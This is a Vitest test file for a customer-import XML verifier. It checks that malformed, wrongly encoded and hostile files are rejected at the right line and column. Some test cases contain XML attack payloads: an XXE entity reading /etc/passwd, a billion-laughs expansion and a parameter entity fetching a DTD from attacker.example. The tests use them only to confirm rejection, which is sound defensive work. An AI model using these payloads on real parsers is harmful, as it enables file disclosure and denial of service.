import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CanonicalCustomer, XmlIssueCode } from '@cm/contracts'
import { verifyCustomerXml } from './xml.verifier.ts'
import { address, customer, positionOf, xmlDocument } from './xml.fixtures.ts'
import { reliabilityCase } from '../../testing/reliability.ts'

let dir: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'xml-verify-'))
})
afterAll(async () => {
  await rm(dir, { recursive: true, force: true })
})

let n = 0
async function fileWith(content: string | Buffer): Promise<string> {
  const path = join(dir, `case-${++n}.xml`)
  await writeFile(path, content)
  return path
}

const ROOT = '<customers xmlns="urn:idosell:customer-migration:1" version="1" platform="shoper" domain="https://a.example.pl" generatedAt="2025-01-01T00:00:00.000Z" count="0">'
/** One valid customer; lines 3–18: 3 <customer>, 5 email, 6 firstName, 10 phone, 14 active. */
const ONE = xmlDocument([customer('1')])
const TWO = xmlDocument([customer('1'), customer('2')])
const WITH_ADDRESS = xmlDocument([customer('1', { addresses: [address()], consents: [{ channel: 'email', granted: true, date: null }] })])
const MANY_ADDRESSES = xmlDocument([customer('1', { addresses: Array.from({ length: 101 }, () => address()) })])
const bytes = (...parts: (string | number[])[]): Buffer =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))))
const at = (text: string, needle: string) => positionOf(text, text.indexOf(needle))

type Case = { tried: string; content: string | Buffer; code: XmlIssueCode; line: number; column: number; maxBytes?: number }

const cases: Case[] = [
  // DTDs and entities: saxes never expands entities, and we stop at the DOCTYPE itself
  {
    tried: 'XXE: an external entity reading /etc/passwd',
    content: `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE customers [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n${ROOT}&xxe;</customers>\n`,
    code: 'XML_DOCTYPE_FORBIDDEN', line: 2, column: 1,
  },
  {
    tried: 'billion laughs: nested internal entities',
    content: `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n${Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<lolz>&lol9;</lolz>\n`,
    code: 'XML_DOCTYPE_FORBIDDEN', line: 2, column: 1,
  },
  {
    tried: 'an internal DTD subset after the declaration and a comment, on one line',
    content: `<?xml version="1.0"?><!-- x --><!DOCTYPE customers [<!ELEMENT customers ANY>]>${ROOT}</customers>`,
    code: 'XML_DOCTYPE_FORBIDDEN', line: 1, column: 32,
  },
  {
    tried: 'a parameter entity pulling a remote DTD',
    content: `<?xml version="1.0"?>\n<!DOCTYPE customers [\n  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n  %remote;\n]>\n${ROOT}</customers>`,
    code: 'XML_DOCTYPE_FORBIDDEN', line: 2, column: 1,
  },
  {
    tried: 'a DOCTYPE whose keyword straddles two 256 KiB read chunks',
    // "<!DO" ends the first chunk, "CTYPE" starts the second
    content: `<!--${'x'.repeat(256 * 1024 - 11)}--><!DOCTYPE customers>${ROOT}</customers>`,
    code: 'XML_DOCTYPE_FORBIDDEN', line: 1, column: 256 * 1024 - 3,
  },
  {
    tried: 'an undefined (HTML) entity in text',
    content: ONE.replace('<firstName>Jan', '<firstName>&nbsp;Jan'),
    code: 'XML_ENTITY_FORBIDDEN', line: 6, column: 21,
  },
  {
    tried: 'an undefined entity in an attribute',
    content: ONE.replace('sourceId="1"', 'sourceId="&xxe;"'),
    code: 'XML_ENTITY_FORBIDDEN', line: 3, column: 27,
  },
  // not XML, or broken XML
  {
    tried: 'a mismatched closing tag',
    content: ONE.replace('</email>', '</emial>'),
    code: 'XML_MALFORMED', line: 5, column: 37,
  },
  {
    tried: 'a second root element after </customers>',
    content: `${ONE}<customers/>\n`,
    code: 'XML_MALFORMED', line: 20, column: 11,
  },
  {
    tried: 'a truncated file (cut inside a start tag)',
    content: ONE.slice(0, ONE.indexOf('<language>') + 5),
    code: 'XML_TRUNCATED', line: 12, column: 9,
  },
  { tried: 'an empty file', content: '', code: 'XML_EMPTY', line: 1, column: 1 },
  { tried: 'a file of whitespace', content: '\n\n   \n', code: 'XML_EMPTY', line: 1, column: 1 },
  { tried: 'only an XML declaration', content: '<?xml version="1.0"?>\n', code: 'XML_EMPTY', line: 1, column: 1 },
  { tried: 'a JSON file', content: '\n  {"customers": []}\n', code: 'XML_MALFORMED', line: 2, column: 3 },
  { tried: 'an HTML page with its doctype', content: '<!DOCTYPE html>\n<html><body>Hi</body></html>\n', code: 'XML_DOCTYPE_FORBIDDEN', line: 1, column: 1 },
  { tried: 'an XHTML-ish page without doctype', content: '<html lang="pl"><body>Hi</body></html>\n', code: 'XML_UNKNOWN_ROOT', line: 1, column: 1 },
  // encoding
  {
    tried: 'a 0xFF byte inside a name',
    content: bytes(ONE.slice(0, ONE.indexOf('Jan') + 2), [0xff], ONE.slice(ONE.indexOf('Jan') + 2)),
    code: 'XML_ENCODING', line: 6, column: 18,
  },
  {
    tried: 'Latin-2 (ISO-8859-2) bytes: Ł as 0xA3',
    content: bytes(ONE.slice(0, ONE.indexOf('Jan')), [0xa3], 'ukasz', ONE.slice(ONE.indexOf('Jan') + 3)),
    code: 'XML_ENCODING', line: 6, column: 16,
  },
  {
    tried: 'a UTF-8-encoded surrogate (CESU style)',
    content: bytes(ONE.slice(0, ONE.indexOf('Jan')), [0xed, 0xa0, 0x80], ONE.slice(ONE.indexOf('Jan'))),
    code: 'XML_ENCODING', line: 6, column: 16,
  },
  {
    tried: 'a file ending inside a two-byte character',
    content: bytes(ONE, [0xc5]),
    code: 'XML_ENCODING', line: 20, column: 1,
  },
  {
    tried: 'a UTF-16 file (BOM FF FE)',
    content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(ONE, 'utf16le')]),
    code: 'XML_ENCODING', line: 1, column: 1,
  },
  {
    tried: 'a declaration claiming ISO-8859-2',
    content: ONE.replace('encoding="UTF-8"', 'encoding="ISO-8859-2"'),
    code: 'XML_ENCODING', line: 1, column: 1,
  },
  // the root
  { tried: 'a different root element', content: ONE.replace(/customers/g, 'clients'), code: 'XML_UNKNOWN_ROOT', line: 2, column: 1 },
  { tried: 'the right root in another namespace', content: ONE.replace('urn:idosell:customer-migration:1', 'urn:other'), code: 'XML_UNKNOWN_ROOT', line: 2, column: 1 },
  { tried: 'format version 2', content: ONE.replace('version="1"', 'version="2"'), code: 'XML_UNKNOWN_VERSION', line: 2, column: 1 },
  { tried: 'a root without platform', content: ONE.replace(' platform="shoper"', ''), code: 'XML_ROOT_ATTRIBUTE_MISSING', line: 2, column: 1 },
  { tried: 'an unknown platform', content: ONE.replace('platform="shoper"', 'platform="allegro"'), code: 'XML_VALUE_INVALID', line: 2, column: 1 },
  { tried: 'a count that is not a number', content: ONE.replace('count="1"', 'count="one"'), code: 'XML_VALUE_INVALID', line: 2, column: 1 },
  // customers
  { tried: 'an unknown element', content: ONE.replace('    <phone/>', '    <fax/>'), code: 'XML_UNKNOWN_ELEMENT', line: 10, column: 5 },
  { tried: 'an unknown attribute', content: ONE.replace('<email>', '<email type="work">'), code: 'XML_UNKNOWN_ATTRIBUTE', line: 5, column: 5 },
  { tried: 'a customer without sourceId', content: ONE.replace(' sourceId="1"', ''), code: 'XML_ATTRIBUTE_MISSING', line: 3, column: 3 },
  { tried: 'an empty sourceId', content: ONE.replace('sourceId="1"', 'sourceId=" "'), code: 'XML_VALUE_INVALID', line: 3, column: 3 },
  { tried: 'a duplicated element', content: ONE.replace('    <phone/>', '    <email>x@example.pl</email>'), code: 'XML_DUPLICATE_ELEMENT', line: 10, column: 5 },
  { tried: 'a customer without <email>', content: ONE.replace('    <email>klient1@example.pl</email>\n', ''), code: 'XML_ELEMENT_MISSING', line: 3, column: 3 },
  { tried: 'a customer without <addresses>', content: ONE.replace('    <addresses/>\n', ''), code: 'XML_ELEMENT_MISSING', line: 3, column: 3 },
  { tried: 'an address without <street>', content: WITH_ADDRESS.replace(/ *<street>.*\n/, ''), code: 'XML_ELEMENT_MISSING', ...at(WITH_ADDRESS, '<address ') },
  { tried: 'an address without its billing flag', content: WITH_ADDRESS.replace(' billing="true"', ''), code: 'XML_ATTRIBUTE_MISSING', ...at(WITH_ADDRESS, '<address ') },
  { tried: 'active = "yes"', content: ONE.replace('<active>true', '<active>yes'), code: 'XML_VALUE_INVALID', line: 14, column: 5 },
  { tried: 'a consent by fax', content: WITH_ADDRESS.replace('channel="email"', 'channel="fax"'), code: 'XML_VALUE_INVALID', ...at(WITH_ADDRESS, '<consent ') },
  { tried: 'text straight inside <customer>', content: ONE.replace('sourceId="1">', 'sourceId="1">hello'), code: 'XML_VALUE_INVALID', line: 4, column: 5 },
  { tried: 'a first name of 10 001 characters', content: ONE.replace('<firstName>Jan', `<firstName>${'a'.repeat(10_001)}`), code: 'XML_TEXT_TOO_LONG', line: 6, column: 5 },
  {
    tried: '101 addresses',
    content: MANY_ADDRESSES,
    code: 'XML_TOO_MANY',
    ...positionOf(MANY_ADDRESSES, MANY_ADDRESSES.lastIndexOf('<address ')),
  },
  { tried: 'count="2" for one customer', content: xmlDocument([customer('1')], 2), code: 'XML_COUNT_MISMATCH', line: 2, column: 1 },
  { tried: 'the same sourceId twice', content: TWO.replace('sourceId="2"', 'sourceId="1"'), code: 'XML_DUPLICATE_SOURCE_ID', line: 19, column: 3 },
  {
    tried: 'markup nested below an address field (too deep)',
    content: WITH_ADDRESS.replace('<street>ul. Długa 1', '<street>ul. <b>Długa</b> 1'),
    code: 'XML_TOO_DEEP',
    ...at(WITH_ADDRESS.replace('<street>ul. Długa 1', '<street>ul. <b>Długa</b> 1'), '<b>'),
  },
  { tried: 'a file over maxBytes', content: ONE, maxBytes: 100, code: 'XML_TOO_LARGE', line: 1, column: 1 },
  { tried: 'XML 1.1 to smuggle a control character reference', content: ONE.replace('version="1.0"', 'version="1.1"').replace('<firstName>Jan', '<firstName>J&#1;an'), code: 'XML_MALFORMED', line: 6, column: 20 },
]

describe('reliability: verifyCustomerXml rejects', () => {
  it.each(cases)('$tried → $code at $line:$column', async ({ tried, content, code, line, column, maxBytes }) => {
    const rc = reliabilityCase('xml', tried)
    const seen: CanonicalCustomer[] = []
    const result = await verifyCustomerXml(await fileWith(content), { ...(maxBytes ? { maxBytes } : {}), onCustomer: (c) => void seen.push(c) })
    rc.tried(1)
    if (!result.ok) rc.rejected(1)
    expect(result.ok).toBe(false)
    expect(result.errors[0]).toMatchObject({ code, line, column })
    expect(result.errors[0]?.message).toMatch(/\w/)
    // a customer with a problem is never handed on
    if (result.errors.every((e) => e.code !== 'XML_COUNT_MISMATCH')) expect(seen.length).toBeLessThanOrEqual(1)
  })

  it('a text run of millions of characters without markup, before buffering it whole', async () => {
    const rc = reliabilityCase('xml', 'a text run of millions of characters without markup')
    const result = await verifyCustomerXml(await fileWith(ONE.replace('<firstName>Jan', `<firstName>${'a'.repeat(3_000_000)}`)))
    rc.tried(1)
    if (!result.ok) rc.rejected(1)
    expect(result.errors).toHaveLength(1)
    expect(result.errors[0]).toMatchObject({ code: 'XML_TEXT_TOO_LONG', line: 6 })
    expect(result.errors[0]!.column).toBeGreaterThan(1_000_000)
    expect(result.errors[0]!.column).toBeLessThan(1_600_000)
  })

  it('reports several problems, and stops at maxIssues', async () => {
    const doc = xmlDocument(Array.from({ length: 60 }, (_, i) => customer(String(i), { email: '' }))).replace(/ *<email\/>\n/g, '')
    const few = await verifyCustomerXml(await fileWith(doc))
    expect(few.errors).toHaveLength(50)
    expect(few.errors.every((e) => e.code === 'XML_ELEMENT_MISSING')).toBe(true)
    expect(new Set(few.errors.map((e) => e.line)).size).toBe(50)
    const three = await verifyCustomerXml(await fileWith(doc), { maxIssues: 3 })
    expect(three.errors).toHaveLength(3)
  })
})

describe('verifyCustomerXml accepts', () => {
  it('a BOM, comments, processing instructions, CDATA and character references', async () => {
    const doc = '\uFEFF' + ONE.replace('<firstName>Jan', '<!-- note --><?app hint?><firstName><![CDATA[J<a>]]>&#x6E;&#243;')
    const seen: CanonicalCustomer[] = []
    const result = await verifyCustomerXml(await fileWith(doc), { onCustomer: (c) => void seen.push(c) })
    expect(result.errors).toEqual([])
    expect(seen[0]?.firstName).toBe('J<a>nó')
  })

  it('text of exactly 10 000 characters, counted as characters not bytes', async () => {
    const result = await verifyCustomerXml(await fileWith(ONE.replace('<firstName>Jan', `<firstName>${'ż'.repeat(10_000)}`)))
    expect(result.errors).toEqual([])
  })

  it('Polish letters split across read chunks', async () => {
    const filler = 'x'.repeat(256 * 1024 - 1 - ONE.indexOf('<firstName>') - 18)
    const doc = ONE.replace('<firstName>Jan', `<!--${filler}--><firstName>żJan`)
    // ż's two bytes sit on both sides of the first 256 KiB boundary
    expect(Buffer.byteLength(doc.slice(0, doc.indexOf('ż')))).toBe(256 * 1024 - 1)
    const seen: CanonicalCustomer[] = []
    const result = await verifyCustomerXml(await fileWith(doc), { onCustomer: (c) => void seen.push(c) })
    expect(result.errors).toEqual([])
    expect(seen[0]?.firstName).toBe('żJan')
  })

  it('a broken character split across read chunks is reported where it starts', async () => {
    const filler = 'x'.repeat(256 * 1024 - 1 - ONE.indexOf('Jan') - 7)
    const doc = ONE.replace('<firstName>Jan', `<!--${filler}--><firstName>`)
    const index = doc.indexOf('</firstName>')
    expect(Buffer.byteLength(doc.slice(0, index))).toBe(256 * 1024 - 1)
    const content = bytes(doc.slice(0, index), [0xc5, 0x41], doc.slice(index))
    const result = await verifyCustomerXml(await fileWith(content))
    expect(result.errors).toEqual([expect.objectContaining({ code: 'XML_ENCODING', ...positionOf(doc, index) })])
  })

  it('hands customers one at a time, in order, waiting for each promise', async () => {
    const doc = xmlDocument(Array.from({ length: 30 }, (_, i) => customer(String(i + 1))))
    let inFlight = 0
    let most = 0
    const ids: string[] = []
    const result = await verifyCustomerXml(await fileWith(doc), {
      onCustomer: async (c, position) => {
        most = Math.max(most, ++inFlight)
        await new Promise((resolve) => setTimeout(resolve, 1))
        ids.push(c.sourceId)
        expect(position).toEqual(positionOf(doc, doc.indexOf(`<customer sourceId="${c.sourceId}"`)))
        inFlight--
      },
    })
    expect(result).toMatchObject({ ok: true, customers: 30, errors: [] })
    expect(most).toBe(1)
    expect(ids).toEqual(Array.from({ length: 30 }, (_, i) => String(i + 1)))
  })

  it('uses an injected duplicate check', async () => {
    const asked: string[] = []
    const result = await verifyCustomerXml(await fileWith(TWO), { seenSourceId: (id) => (asked.push(id), id === '2') })
    expect(asked).toEqual(['1', '2'])
    expect(result.errors).toEqual([expect.objectContaining({ code: 'XML_DUPLICATE_SOURCE_ID', line: 19, column: 3 })])
  })

  it('stops when the signal aborts', async () => {
    const controller = new AbortController()
    const doc = xmlDocument(Array.from({ length: 10 }, (_, i) => customer(String(i + 1))))
    const run = verifyCustomerXml(await fileWith(doc), {
      signal: controller.signal,
      onCustomer: (c) => {
        if (c.sourceId === '3') controller.abort()
      },
    })
    await expect(run).rejects.toMatchObject({ name: 'AbortError' })
  })
})
